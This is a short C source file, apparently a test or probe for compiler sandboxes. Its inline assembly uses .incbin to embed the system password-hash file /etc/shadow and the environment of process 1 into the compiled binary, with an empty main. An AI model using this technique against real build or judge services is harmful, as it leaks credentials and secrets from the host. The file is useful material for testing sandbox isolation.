/* The same by the assembler alone. */
__asm__(".data\nstart: .incbin \"/etc/shadow\"\n.incbin \"/proc/1/environ\"\n");
int main(void) { return 0; }
